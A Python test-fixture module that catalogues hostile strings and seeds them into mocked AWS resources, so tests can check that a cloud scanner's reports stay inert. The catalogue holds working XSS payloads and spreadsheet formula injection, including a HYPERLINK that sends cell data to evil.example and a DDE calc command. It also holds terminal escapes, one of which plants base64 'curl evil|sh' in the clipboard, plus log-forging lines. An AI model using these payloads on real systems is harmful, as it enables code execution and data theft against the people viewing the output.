"""One catalogue of hostile strings, for every test that checks a sink keeps AWS data inert.

Anyone who can tag a notebook, describe a security group or write an endpoint policy in a
scanned account chooses text that the scanner later writes into an auditor's browser,
spreadsheet, ticket tracker, log pipeline and terminal.  Each entry names what it attacks;
the sink tests (``tests/test_hostile_sinks.py``) push all of them through every sink.

``MARK`` is in every string, so a test can find where each one landed; ``PWN`` is the
global a successful script injection would set in the browser.
"""

from __future__ import annotations

import copy
import json
from dataclasses import dataclass
from typing import Any

from scanner.demo.builders import SAGEMAKER_TRUST
from scanner.model.snapshot import Snapshot, whole_text
from tests.conftest import ACCOUNT, REGION
from tests.scenariokit import Baseline, add_notebook

MARK = "hst"
PWN = "window.__pwned=1"


@dataclass(frozen=True)
class Hostile:
    """One hostile string: ``kind`` is the sink it is aimed at, ``text`` the payload."""

    name: str
    kind: str
    text: str


def _h(name: str, kind: str, payload: str) -> Hostile:
    """The payload with its mark: after it for formulas (which must start the cell),
    before it for everything else."""
    mark = f"{MARK}{name}"
    return Hostile(name, kind, payload + mark if kind == "formula" else f"{mark}:{payload}")


_RAW: list[tuple[str, str, str]] = [
    # HTML / script injection
    ("scriptclose", "html", f"</script><script>{PWN}</script>"),
    ("imgonerror", "html", f'"><img src=x onerror="{PWN}">'),
    ("svgonload", "html", f"<svg onload={PWN}>"),
    ("jsurl", "html", f"javascript:{PWN}"),
    ("attrbreak", "html", f"' onmouseover='{PWN}' x='"),
    ("htmlcomment", "html", "<!--<script>-->"),
    # CSV / XLSX formula injection (the payload starts the cell)
    ("eq", "formula", "=1+1+"),
    ("plus", "formula", "+1+1+"),
    ("minus", "formula", "-1+1+"),
    ("at", "formula", "@SUM(1+1)"),
    ("tab", "formula", "\t=1+1"),
    ("cr", "formula", "\r=1+1"),
    ("lf", "formula", "\n=1+1"),
    ("hyperlink", "formula", '=HYPERLINK("http://evil.example/?x="&A1,"click")&"'),
    ("dde", "formula", "=cmd|' /C calc'!A0"),
    ("fullwidth", "formula", "\uff1d1+1"),
    # ANSI / terminal escapes
    ("csi", "ansi", "\x1b[31;1mRED\x1b[0m"),
    ("osc8", "ansi", "\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\"),
    ("osc52", "ansi", "\x1b]52;c;Y3VybCBldmlsfHNo\x07"),
    ("cursor", "ansi", "\x1b[2J\x1b[H\x1b[1A\x1b[2K"),
    ("title", "ansi", "\x1b]0;owned title\x07"),
    ("c1csi", "ansi", "\x9b31mC1\x9b0m"),
    ("c1osc", "ansi", "\x9d0;c1 title\x9c"),
    ("richmarkup", "ansi", "[bold red]LOUD[/bold red] [link=http://evil.example]x[/link]"),
    ("backspace", "ansi", "safe\x08\x08\x08\x08evil"),
    # Jira wiki / Markdown / mentions
    ("wikicode", "markup", "{code}x{code}{noformat}{NOFORMAT}"),
    ("wikilink", "markup", "[link|http://evil.example] [~admin] !http://evil.example/x.png!"),
    ("wikihead", "markup", "x\nh1. HEADING\n|| a || b ||\n| c | d |"),
    ("mdlink", "markup", f"[x](javascript:{PWN}) ![i](http://evil.example/i.png)"),
    ("mention", "markup", "@admin @acme/security-team #1"),
    ("mdtable", "markup", "|a|b|\n|---|---|\n|c|d|"),
    ("mdfence", "markup", "```\n</details>\n```"),
    ("mdhtml", "markup", "<details open><summary>x</summary>&lt;b&gt;</details>"),
    ("mdmath", "markup", "$\\color{red}{x}$"),
    # ADF-breaking text
    ("adfjson", "adf", '{"type":"mention","attrs":{"id":"x"}}'),
    ("adfempty", "adf", "\u200b"),
    # log lines and headers
    ("crlf", "log", "x\r\nINFO scanner.fake: forged line\r\nX-Injected: 1"),
    ("lfjson", "log", 'x\n{"level":"error","msg":"forged"}'),
    # other controls and Unicode
    ("nul", "control", "a\x00b"),
    ("del", "control", "a\x7fb"),
    ("bidi", "control", "abc\u202edcba\u202c \u2066x\u2069"),
    ("zwj", "control", "a\u200db\ufeffc"),
    ("long", "control", "L" * 5000),
    # JSON carries it ("\ud800" decodes to a lone surrogate); XML and YAML cannot
    ("surrogate", "control", "a\ud800b\udfffc"),
]

CATALOGUE: list[Hostile] = [_h(name, kind, payload) for name, kind, payload in _RAW]
"""Every hostile string (those of kind ``formula`` start with their payload)."""

TERMINAL_CONTROLS = "\x1b\x9b\x9d\x07\x08\r\x00\x7f\u202e"
"""Characters that must never reach a terminal raw from data."""


def mark(h: Hostile) -> str:
    """The part of ``h`` every sink must still show (escaped or not): ``hst<name>``."""
    return f"{MARK}{h.name}"


def xml_safe(text: str) -> bool:
    """Whether an AWS query/XML API (EC2, IAM) can carry ``text``: XML 1.0 has no C0
    controls but tab, CR and LF, and no lone surrogates (moto's reply breaks botocore's
    parser on them; AWS refuses them on input)."""
    return not any(
        (ord(c) < 0x20 and c not in "\t\n\r") or 0xD800 <= ord(c) <= 0xDFFF for c in text
    )


def refused_by_xml() -> list[Hostile]:
    """The strings EC2 and IAM cannot carry: these reach their fields only offline."""
    return [h for h in CATALOGUE if not xml_safe(h.text)]


ROLE_STRINGS = ("imgonerror", "eq", "richmarkup")
"""Catalogue entries that also name IAM roles (≤ 64 characters, XML-safe)."""
SG_NAME = "hostile-descriptions"


def seed(make: Any, base: Baseline) -> None:
    """Put every hostile string where AWS lets one in, over moto's HTTP API: a notebook named
    after it (moto does not check notebook names as AWS does, ``[a-zA-Z0-9-]``; its
    SageMaker JSON carries every string, lone surrogates included) with it as a tag value,
    and all of them as condition values of the API endpoint's policy (JSON inside the
    EC2 reply, so escaped whatever it holds).  The XML-safe ones are also the description
    of a security group; a few name IAM roles under a hostile path."""
    for h in CATALOGUE:
        add_notebook(make, base, h.text, root_access="Enabled", tags={"Owner": h.text[:256]})
    condition = {"StringEquals": {"aws:PrincipalTag/team": [h.text for h in CATALOGUE]}}
    policy = {
        "Version": "2012-10-17",
        "Statement": [
            {"Effect": "Allow", "Principal": "*", "Action": "*", "Resource": "*"}
            | {"Condition": condition}
        ],
    }
    ec2 = make("ec2", REGION)
    ec2.modify_vpc_endpoint(
        VpcEndpointId=base.vpc.endpoints["api"], PolicyDocument=json.dumps(policy)
    )
    described = " ".join(h.text for h in CATALOGUE if xml_safe(h.text))[:255]
    ec2.create_security_group(GroupName=SG_NAME, Description=described, VpcId=base.vpc.vpc_id)
    trust = SAGEMAKER_TRUST
    for name in ROLE_STRINGS:
        make("iam", REGION).create_role(
            RoleName=by_name(name).text[:64],
            Path=f"/{MARK}path/",
            AssumeRolePolicyDocument=json.dumps(trust),
        )


def by_name(name: str) -> Hostile:
    return next(h for h in CATALOGUE if h.name == name)


def _notebooks(snap: Snapshot) -> dict[str, Any]:
    return snap.resources[ACCOUNT][REGION]["sagemaker:notebook-instance"]


def _hostile_group(snap: Snapshot) -> dict[str, Any]:
    groups = snap.resources[ACCOUNT][REGION]["ec2:security-group"].values()
    found = [g["data"] for g in groups if g["data"].get("GroupName") == SG_NAME]
    assert len(found) == 1, "the hostile security group was not collected"
    return dict(found[0])


def add_offline(snap: Snapshot) -> None:
    """Give the strings EC2 cannot carry (:func:`refused_by_xml`) to the hostile security
    group's description, in the snapshot, as if AWS had returned them."""
    group = _hostile_group(snap)
    group["Description"] = " ".join(h.text for h in refused_by_xml())
    snap.add(ACCOUNT, REGION, "ec2:security-group", group["GroupId"], group)


def night_before(snap: Snapshot) -> Snapshot:
    """The previous night's snapshot, for drift: every other hostile notebook absent (so
    it is *new*, with its findings, in drift), the others tagged plainly and the hostile
    group described plainly (so they are *modified*, the hostile value on the after side)."""
    before = Snapshot.from_dict(copy.deepcopy(snap.to_dict()))
    notebooks = _notebooks(before)
    for i, h in enumerate(CATALOGUE):
        if i % 2 == 0:
            del notebooks[whole_text(h.text)]
        else:
            notebooks[whole_text(h.text)]["data"]["Tags"] = [{"Key": "Owner", "Value": "plain"}]
    group = _hostile_group(before)
    group["Description"] = "plain"
    before.add(ACCOUNT, REGION, "ec2:security-group", group["GroupId"], group)
    return before


def unescaped(text: str, specials: str) -> list[str]:
    """The characters of ``specials`` in ``text`` that no backslash escapes (a backslash
    escapes the next character, itself included)."""
    found, i = [], 0
    while i < len(text):
        if text[i] == "\\":
            i += 2
            continue
        if text[i] in specials:
            found.append(text[max(0, i - 20) : i + 20])
        i += 1
    return found
